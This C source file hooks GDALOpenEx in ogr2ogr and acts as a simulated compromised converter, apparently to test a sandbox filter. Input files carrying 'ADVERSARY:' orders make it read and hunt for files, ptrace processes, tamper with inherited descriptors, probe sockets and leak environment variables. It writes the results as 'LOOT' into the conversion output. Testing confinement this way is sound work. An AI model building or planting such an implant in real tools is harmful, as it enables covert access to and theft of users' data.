/*
 * A converter that has been taken over. Linked into a copy of ogr2ogr, it waits for a file that holds orders,
 *
 *     ADVERSARY:verb=argument;verb=argument;…END
 *
 * carries each out with all that the process has, and writes what it got in the place of the orders, from where it goes
 * into the result:
 *
 *     LOOT:verb=argument=held;verb=argument=got…END
 *
 * All other files it converts as ever.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

enum { ROOM = 1 << 20, SAMPLE = 24, DESCRIPTORS = 1024, STACK = 64 << 10 };

static char file_text[ROOM], loot[ROOM];
static int inherited[DESCRIPTORS];

static void say(char **into, const char *text)
{
    size_t room = (size_t)(loot + sizeof loot - 64 - *into), length = strlen(text);
    length = length < room ? length : room;
    memcpy(*into, text, length);
    *into += length;
}

static void say_bytes(char **into, const char *bytes, ssize_t count)
{
    char pair[3];
    say(into, "got ");
    for (ssize_t place = 0; place < count; place++) {
        snprintf(pair, sizeof pair, "%02x", (unsigned char)bytes[place]);
        say(into, pair);
    }
}

static void say_number(char **into, long number)
{
    char text[32];
    snprintf(text, sizeof text, "got %ld", number);
    say(into, text);
}

static int reads(const char *path, char **into)
{
    char bytes[SAMPLE];
    int descriptor = open(path, O_RDONLY | O_NONBLOCK);
    ssize_t count = descriptor < 0 ? -1 : read(descriptor, bytes, sizeof bytes);
    if (count >= 0)
        say_bytes(into, bytes, count);
    close(descriptor);
    return count >= 0;
}

static int lists(const char *path, char **into)
{
    DIR *directory = opendir(path);
    struct dirent *entry;
    if (!directory)
        return 0;
    say(into, "got");
    while ((entry = readdir(directory))) {
        say(into, " ");
        say(into, entry->d_name);
    }
    closedir(directory);
    return 1;
}

/* Every file below a directory. */
static int finds(const char *path, const char *name, char **into, int depth)
{
    DIR *directory = depth < 12 ? opendir(path) : NULL;
    struct dirent *entry;
    char below[4096];
    int found = 0;
    if (!directory)
        return 0;
    while ((entry = readdir(directory))) {
        if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, ".."))
            continue;
        snprintf(below, sizeof below, "%s/%s", path, entry->d_name);
        if (!strcmp(entry->d_name, name))
            found += reads(below, into);
        else if (entry->d_type == DT_DIR)
            found += finds(below, name, into, depth + 1);
    }
    closedir(directory);
    return found;
}

static int writes(const char *path)
{
    int descriptor = open(path, O_WRONLY | O_CREAT, 0666);
    int done = descriptor >= 0 && write(descriptor, "taken over", 10) == 10;
    close(descriptor);
    return done;
}

static int connects(const char *path)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int link = socket(AF_UNIX, SOCK_STREAM, 0);
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    return link >= 0 && connect(link, (struct sockaddr *)&address, sizeof address) == 0;
}

static int reaches(const char *port)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port))};
    int link = socket(AF_INET, SOCK_STREAM, 0);
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return link >= 0 && connect(link, (struct sockaddr *)&address, sizeof address) == 0;
}

/* Spoil every file that it was given, and that it may share with others. Pipes and devices are nobody else's. */
static int spoils(const char *how, char **into)
{
    int spoilt = 0;
    struct stat found;
    for (int descriptor = 0; descriptor < DESCRIPTORS; descriptor++) {
        if (!inherited[descriptor] || fstat(descriptor, &found) < 0 || !S_ISREG(found.st_mode))
            continue;
        if (!strcmp(how, "flags"))
            spoilt += fcntl(descriptor, F_SETFL, fcntl(descriptor, F_GETFL) | O_DIRECT | O_APPEND | O_NONBLOCK) == 0;
        else if (!strcmp(how, "lock"))
            spoilt += flock(descriptor, LOCK_EX | LOCK_NB) == 0;
        else if (!strcmp(how, "lease"))
            spoilt += fcntl(descriptor, F_SETLEASE, F_RDLCK) == 0;
        else if (!strcmp(how, "place"))
            spoilt += lseek(descriptor, 1 << 20, SEEK_SET) >= 0;
    }
    if (spoilt)
        say_number(into, spoilt);
    return spoilt;
}

/* Says how many of the files that it was given some run before has spoilt. */
static int finds_spoilt(char **into)
{
    int spoilt = 0;
    struct stat found;
    for (int descriptor = 0; descriptor < DESCRIPTORS; descriptor++) {
        if (!inherited[descriptor] || fstat(descriptor, &found) < 0 || !S_ISREG(found.st_mode))
            continue;
        int lease = fcntl(descriptor, F_GETLEASE); /* refused by the filter, as taking one is */
        spoilt += fcntl(descriptor, F_GETFL) & (O_DIRECT | O_APPEND | O_NONBLOCK) || (lease >= 0 && lease != F_UNLCK);
    }
    if (spoilt)
        say_number(into, spoilt);
    return spoilt;
}

/* Whether somebody else, a run before, still has a lock on a file. */
static int is_locked(const char *path)
{
    int descriptor = open(path, O_RDONLY);
    int locked = descriptor >= 0 && flock(descriptor, LOCK_EX | LOCK_NB) < 0 && errno == EWOULDBLOCK;
    close(descriptor);
    return locked;
}

static void *idles(void *nothing)
{
    pause();
    return nothing;
}

static int makes_threads(const char *count, char **into)
{
    pthread_attr_t small;
    pthread_t thread;
    long made = 0;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, STACK);
    while (made < atol(count) && pthread_create(&thread, &small, idles, NULL) == 0)
        made++;
    say_number(into, made);
    return 1;
}

static int knows_environment(const char *prefix, char **into)
{
    for (char **variable = environ; *variable; variable++)
        if (!strncmp(*variable, prefix, strlen(prefix))) {
            say_bytes(into, *variable, SAMPLE);
            return 1;
        }
    return 0;
}

static void obey(const char *verb, const char *argument, char **into)
{
    char *before = *into, name[256] = "", *rest = strchr(argument, '|');
    int done = 0;
    if (rest)
        snprintf(name, sizeof name, "%s", rest + 1), *rest = 0;
#define ORDER(text, attempt) else if (!strcmp(verb, text)) done = attempt
    if (!*verb)
        return;
    ORDER("read", reads(argument, into));
    ORDER("list", lists(argument, into));
    ORDER("find", finds(argument, name, into, 0));
    ORDER("write", writes(argument));
    ORDER("connect", connects(argument));
    ORDER("tcp", reaches(argument));
    ORDER("signal", kill((pid_t)atol(argument), SIGCONT) == 0);
    ORDER("trace", ptrace(PTRACE_ATTACH, (pid_t)atol(argument), 0, 0) == 0);
    ORDER("spoil", spoils(argument, into));
    ORDER("spoilt", finds_spoilt(into));
    ORDER("locked", is_locked(argument));
    ORDER("threads", makes_threads(argument, into));
    ORDER("environment", knows_environment(argument, into));
    if (*into == before)
        say(into, done ? "got it" : "held");
}

/* Carry out the orders between `orders` and `end`; returns the end of what was got. */
static char *obey_all(char *orders, char *end)
{
    char *into = loot, *next, *argument;
    *end = 0;
    say(&into, "LOOT:");
    for (char *order = orders; order && *order; order = next) {
        if ((next = strchr(order, ';')))
            *next++ = 0;
        if (!(argument = strchr(order, '=')))
            continue;
        say(&into, order);
        say(&into, "=");
        *argument++ = 0;
        obey(order, argument, &into);
        say(&into, ";");
    }
    return into;
}

static void look_for_orders(const char *path)
{
    int descriptor = open(path, O_RDWR);
    ssize_t size = descriptor < 0 ? 0 : read(descriptor, file_text, sizeof file_text - 1);
    char *orders = size > 0 ? memmem(file_text, (size_t)size, "ADVERSARY:", 10) : NULL;
    char *end = orders ? memmem(orders, (size_t)(file_text + size - orders), "END", 3) : NULL;
    if (end) {
        char *rest = end + 3, *last = obey_all(orders + 10, end);
        size_t left = (size_t)(file_text + size - rest);
        if (lseek(descriptor, orders - file_text, SEEK_SET) < 0 || ftruncate(descriptor, orders - file_text) < 0 ||
            write(descriptor, loot, (size_t)(last - loot)) < 0 || write(descriptor, "END", 3) < 0 ||
            write(descriptor, rest, left) < 0)
            perror("loot");
    }
    close(descriptor);
    memset(file_text, 0, sizeof file_text);
}

/* What ogr2ogr opens its source with, put before GDAL's own. */
void *GDALOpenEx(const char *path, unsigned flags, const char *const *drivers, const char *const *options,
                 const char *const *siblings)
{
    static int looked;
    void *(*real)(const char *, unsigned, const char *const *, const char *const *, const char *const *) =
        (void *(*)(const char *, unsigned, const char *const *, const char *const *, const char *const *))dlsym(
            RTLD_NEXT, "GDALOpenEx");
    if (!looked++) {
        for (int descriptor = 0; descriptor < DESCRIPTORS; descriptor++)
            inherited[descriptor] = fcntl(descriptor, F_GETFD) >= 0;
        look_for_orders(path);
    }
    return real(path, flags, drivers, options, siblings);
}
